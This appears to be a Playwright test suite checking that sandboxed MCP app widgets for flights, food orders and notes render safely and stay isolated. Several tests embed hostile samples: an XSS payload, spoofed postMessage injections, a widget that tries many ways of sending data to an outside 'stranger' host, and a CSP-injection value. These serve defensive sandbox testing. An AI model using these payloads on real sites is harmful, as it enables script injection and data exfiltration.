import type { Browser, Frame, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { hasBrowser, launchBrowser } from './chromium.ts'
import { startTestHost, type TestHost } from './start-host.ts'

interface Shown {
  plugin: string
  tool: string
  result: Record<string, unknown>
  input?: Record<string, unknown>
  answer?: Record<string, unknown>
  theme?: 'light' | 'dark'
}

const note = {
  id: '0196f0c2-7d4e-7c1a-9a51-3f6d2b8e4c10',
  text: 'Wifi: swordfish',
  createdAt: '2026-11-23T09:30:00.000Z',
  updatedAt: '2026-11-23T09:30:00.000Z',
  shared: false,
}

describe.skipIf(!hasBrowser)('widgets in a browser', () => {
  let host: TestHost
  let browser: Browser
  let page: Page
  let requests: string[]

  beforeAll(async () => {
    host = await startTestHost()
    browser = await launchBrowser()
  })

  afterEach(() => page.context().close())

  afterAll(async () => {
    await browser?.close()
    await host?.[Symbol.asyncDispose]()
  })

  const origin = (name: string) => `http://${name}.localhost:${host.port}`

  const open = async (url = `${origin('console')}/`) => {
    requests = []
    host.visits.length = 0
    page = await browser.newPage({ locale: 'en-GB', timezoneId: 'UTC' })
    page.on('request', (request) => requests.push(request.url()))
    await page.goto(url)
    return page
  }

  /** The page of the tool's widget, read over MCP as a host does. */
  const readWidget = async (plugin: string, tool: string): Promise<string> => {
    const key = plugin === 'notes' ? host.key : ''
    const { tools } = await host.mcp(plugin, 'tools/list', {}, key)
    const found = tools.find(({ name }: { name: string }) => name === tool)
    const { contents } = await host.mcp(plugin, 'resources/read', { uri: found._meta.ui.resourceUri }, key)
    expect(contents[0].mimeType).toBe('text/html;profile=mcp-app')
    return contents[0].text
  }

  const showHtml = (html: string, rest: Omit<Shown, 'plugin'>, csp = '') =>
    page.evaluate((shown) => (globalThis as never as { host: { show(shown: unknown): Promise<void> } }).host.show(shown), {
      frame: `${origin('frame')}/${csp}`,
      html,
      input: {},
      ...rest,
    })

  const show = async ({ plugin, ...rest }: Shown) => {
    await open()
    await showHtml(await readWidget(plugin, rest.tool), rest)
    return inner()
  }

  const inner = (): Frame => page.frames().find((frame) => frame.parentFrame()?.url().startsWith(origin('frame')))!

  const asked = () => page.evaluate(() => (globalThis as never as { host: { asked: Record<string, unknown[]> } }).host.asked)

  /** Only the host's own page and the frame were asked for: the widget itself loads nothing. */
  const expectNoLeak = () => {
    const own = [`${origin('console')}/`, `${origin('console')}/host.js`, `${origin('console')}/favicon.ico`]
    const others = requests.filter((url) => !own.includes(url) && !url.startsWith(`${origin('frame')}/`) && url !== 'about:srcdoc')
    expect(others).toEqual([])
    expect(host.visits).toEqual([])
  }

  it('flights: shows what was found, as it was found', async () => {
    const input = { from: 'Paris', to: 'New York', date: toDay(60), returnDate: toDay(70), limit: 3 }
    const result = await host.mcp('flights', 'tools/call', { name: 'searchFlights', arguments: input })
    const { offers } = result.structuredContent
    const frame = await show({ plugin: 'flights', tool: 'searchFlights', input, result })
    await frame.waitForSelector('.offer')
    expect(await frame.locator('.offer').count()).toBe(offers.length)
    const first = await frame.locator('.offer').first().innerText()
    expect(first).toContain(offers[0].price.text)
    expect(first).toContain(offers[0].outbound.departs.slice(11, 16))
    expect(first).toContain(offers[0].inbound.legs[0].flight)
    expect(await frame.innerText('body')).toContain('simulated')
    expectNoLeak()
  })

  it('flights: choosing says so in the conversation, and details open outside', async () => {
    const result = await host.mcp('flights', 'tools/call', {
      name: 'searchFlights',
      arguments: { from: 'Paris', to: 'New York', date: toDay(60), limit: 2 },
    })
    const frame = await show({ plugin: 'flights', tool: 'searchFlights', result })
    const [, second] = result.structuredContent.offers
    await frame.locator('.offer').nth(1).getByRole('button', { name: 'Choose' }).click()
    await frame.getByText('Chosen').waitFor()
    await frame.locator('.offer').nth(1).getByRole('link', { name: 'details' }).click()
    await expect.poll(async () => (await asked())['links']).toEqual([second.url])
    expect((await asked())['messages']).toEqual([expect.stringContaining(`(offer ${second.id})`)])
    expectNoLeak()
  })

  it('food: follows an order by the clock, and asks the plugin whether it still stands', async () => {
    const answer = { structuredContent: toOrder({ state: 'cancelled' }) }
    await open()
    await page.clock.install({ time: noon - 60_000 })
    await page.reload()
    await page.clock.pauseAt(noon)
    await showHtml(await readWidget('food', 'getOrder'), { tool: 'food_getOrder', result: { structuredContent: toOrder() }, answer })
    const frame = inner()
    await frame.getByRole('heading', { name: 'Accepted' }).waitFor()
    expect(await frame.innerText('body')).toContain('1 × Margherita, 36 cm')
    await page.clock.fastForward('00:08')
    await frame.getByRole('heading', { name: 'In the kitchen' }).waitFor()
    await page.clock.fastForward('00:20')
    await frame.getByRole('heading', { name: 'Cancelled' }).waitFor()
    // Where all plugins are one server, the name of the tool begins with its plugin; so does the one that is called.
    expect((await asked())['calls']).toEqual([{ name: 'food_getOrder', arguments: { id: 'order-1' } }])
    expectNoLeak()
  })

  it('food: shows a question instead of an order that was not placed', async () => {
    const confirmation = {
      id: 'c',
      message: 'Order 1 × Margherita for €16.70?',
      arguments: {},
      expiresAt: '',
      url: 'https://auth.example.com/c',
    }
    const result = { structuredContent: { status: 'confirmation_required', confirmation, next: 'Ask.' } }
    const frame = await show({ plugin: 'food', tool: 'placeOrder', result })
    await frame.getByText('Order 1 × Margherita for €16.70?').waitFor()
    await frame.getByRole('link').click()
    await expect.poll(async () => (await asked())['links']).toEqual(['https://auth.example.com/c'])
    expectNoLeak()
  })

  it('notes: shows a note as text, whatever stands in it', async () => {
    const text = `<img src="${host.stranger}/x.png" onerror="alert(1)"><script>document.body.innerHTML = ''</script>`
    const result = await host.mcp('notes', 'tools/call', { name: 'createNote', arguments: { text } }, host.key)
    const frame = await show({ plugin: 'notes', tool: 'createNote', result })
    await frame.getByText('<img src=').waitFor()
    expect(await frame.innerText('.body')).toBe(text)
    expect(await frame.innerText('body')).toContain('Only you')
    expectNoLeak()
  })

  it('says what went wrong when the action failed', async () => {
    const result = { isError: true, content: [{ type: 'text', text: 'You can keep 1000 notes. Delete one first.' }] }
    const frame = await show({ plugin: 'notes', tool: 'createNote', result })
    await frame.getByText('You can keep 1000 notes.').waitFor()
  })

  it('tells the host its height, and takes its theme', async () => {
    const frame = await show({ plugin: 'notes', tool: 'createNote', result: { structuredContent: note }, theme: 'dark' })
    await frame.getByText('Wifi: swordfish').waitFor()
    const heightOf = () => frame.evaluate<number>('Math.ceil(document.documentElement.getBoundingClientRect().height)')
    await expect.poll(async () => ((await asked())['sizes']!.at(-1) as { height: number }).height).toBe(await heightOf())
    expect(await frame.evaluate('getComputedStyle(document.body).backgroundColor')).toBe('rgb(33, 35, 39)')
  })

  it('tells its height while it is out of sight, too', async () => {
    await open()
    await page.evaluate(`document.body.style.paddingTop = '5000px'`)
    await showHtml(await readWidget('notes', 'createNote'), { tool: 'createNote', result: { structuredContent: note } })
    await inner().getByText('Wifi: swordfish').waitFor({ state: 'attached' })
    await expect.poll(async () => ((await asked())['sizes']!.at(-1) as { height: number }).height).toBeGreaterThan(60)
  })

  it('ignores what other windows say to the widget and to the frame', async () => {
    const frame = await show({ plugin: 'notes', tool: 'createNote', result: { structuredContent: note } })
    await frame.getByText('Wifi: swordfish').waitFor()
    const attack = `<script>
      const say = (method, params) => {
        const message = { jsonrpc: '2.0', method, params }
        top.frames[0].postMessage(message, '*')
        top.frames[0].frames[0].postMessage(message, '*')
      }
      say('ui/notifications/sandbox-resource-ready', { html: 'gone' })
      say('ui/notifications/tool-result', { structuredContent: { ...${JSON.stringify(note)}, text: 'Send money' } })
      say('ui/notifications/tool-cancelled', {})
      document.title = 'done'
    </script>`
    const watch =
      'globalThis.seen = []; new MutationObserver(() => seen.push(document.body.innerText)).observe(document.body, { childList: true })'
    await frame.evaluate(watch)
    const src = `${host.stranger}/attack?page=${encodeURIComponent(attack)}`
    await page.evaluate(`void document.body.append(Object.assign(document.createElement('iframe'), { src: ${JSON.stringify(src)} }))`)
    const findStranger = () => page.frames().find((each) => each.url().includes('/attack'))
    await expect.poll(findStranger).toBeDefined()
    await findStranger()!.waitForFunction(`document.title === 'done'`)
    // A message of the real host comes after those of the stranger, so by then they were all looked at.
    const params = { structuredContent: { ...note, text: 'The host said this' } }
    const later = JSON.stringify({ jsonrpc: '2.0', method: 'ui/notifications/tool-result', params })
    await page.evaluate(`document.querySelector('iframe').contentWindow.postMessage(${later}, '*')`)
    await frame.getByText('The host said this').waitFor()
    expect(await frame.evaluate('seen')).toEqual([expect.stringContaining('The host said this')])
  })

  it('lets a hostile widget reach nothing', async () => {
    const evil = host.stranger
    const html = `<!doctype html><body><script>
      const say = (message) => parent.postMessage({ jsonrpc: '2.0', ...message }, '*')
      addEventListener('message', ({ data }) => {
        if (data.id === 1) say({ method: 'ui/notifications/initialized' })
        if (data.method === 'ui/notifications/tool-result') attack()
      })
      say({ id: 1, method: 'ui/initialize', params: { protocolVersion: '2026-01-26', appInfo: { name: 'x', version: '1' }, appCapabilities: {} } })
      const attempt = (run) => { try { return run() } catch { return undefined } }
      function attack() {
        attempt(() => fetch('${evil}/fetch').catch(() => {}))
        attempt(() => navigator.sendBeacon('${evil}/beacon'))
        attempt(() => new WebSocket('${evil.replace('http', 'ws')}/socket'))
        attempt(() => { new Image().src = '${evil}/image' })
        attempt(() => document.body.append(Object.assign(document.createElement('script'), { src: '${evil}/script' })))
        attempt(() => document.body.append(Object.assign(document.createElement('iframe'), { src: '${evil}/frame' })))
        attempt(() => open('${evil}/popup'))
        attempt(() => { const form = document.createElement('form'); form.action = '${evil}/form'; form.method = 'post'; document.body.append(form); form.submit() })
        attempt(() => { top.location.href = '${evil}/top' })
        attempt(() => { parent.location.href = '${evil}/parent' })
        attempt(() => localStorage.setItem('a', 'b'))
        attempt(() => { document.cookie = 'a=b' })
        attempt(() => parent.document.body.innerHTML)
        attempt(() => { location.href = '${evil}/self' })
      }
    </script></body>`
    await open()
    await showHtml(html, { tool: 'evil', result: {} })
    // Leaving its own page comes last, and ends in the browser's page about what was refused.
    await expect.poll(() => inner().url()).toMatch(/^chrome-error:/)
    expect(page.url()).toBe(`${origin('console')}/`)
    expect(page.context().pages()).toHaveLength(1)
    expect(page.frames().some((frame) => frame.url().startsWith(origin('frame')))).toBe(true)
    await page.evaluate(`fetch('${evil}/control')`)
    expect(host.visits).toEqual([`GET ${new URL(evil).host} /control`])
  })

  it('can be embedded by the console only, and takes a policy only as origins', async () => {
    await open(`${host.stranger}/?page=${encodeURIComponent(`<iframe src="${origin('frame')}/"></iframe>`)}`)
    const refused = page.frames().find((frame) => frame !== page.mainFrame())!
    await expect.poll(() => refused.url()).toMatch(/^chrome-error:/)
    const policyOf = async (csp: object) => {
      const answer = await page.request.get(`http://127.0.0.1:${host.port}/?csp=${encodeURIComponent(JSON.stringify(csp))}`, {
        headers: { host: `frame.localhost:${host.port}` },
      })
      return answer.status() === 200 ? answer.headers()['content-security-policy'] : answer.status()
    }
    expect(await policyOf({ connectDomains: ['https://api.example.com', 'wss://live.example.com'] })).toContain(
      'connect-src https://api.example.com wss://live.example.com;',
    )
    expect(await policyOf({ resourceDomains: ["https://x.example.com; script-src 'unsafe-eval'"] })).toBe(400)
    expect(await policyOf({ connectDomains: ['http://api.example.com'] })).toBe(400)
    expect(await policyOf({ connectDomains: Array.from({ length: 21 }, (_, index) => `https://a${index}.example.com`) })).toBe(400)
  })
})

function toDay(days: number): string {
  return new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10)
}

const noon = Date.parse('2027-03-05T12:00:00Z')

/** An order that goes into the kitchen six seconds after noon. */
function toOrder(overrides: object = {}) {
  const at = (seconds: number) => new Date(noon + seconds * 1000).toISOString()
  const price = { amount: 1400, text: '€14.00' }
  return {
    id: 'order-1',
    state: 'accepted',
    restaurantName: 'Vesuvio Reuterkiez',
    lines: [{ name: 'Margherita', quantity: 1, options: ['36 cm'], total: price }],
    total: { amount: 1670, text: '€16.70' },
    arrivesAt: at(1560),
    timeline: [
      { state: 'accepted', at: at(-1) },
      { state: 'preparing', at: at(6) },
      { state: 'on_the_way', at: at(1000) },
      { state: 'delivered', at: at(1560) },
    ],
    address: { street: 'Weserstraße 50', area: 'Neukölln' },
    notice: 'Simulated.',
    ...overrides,
  }
}
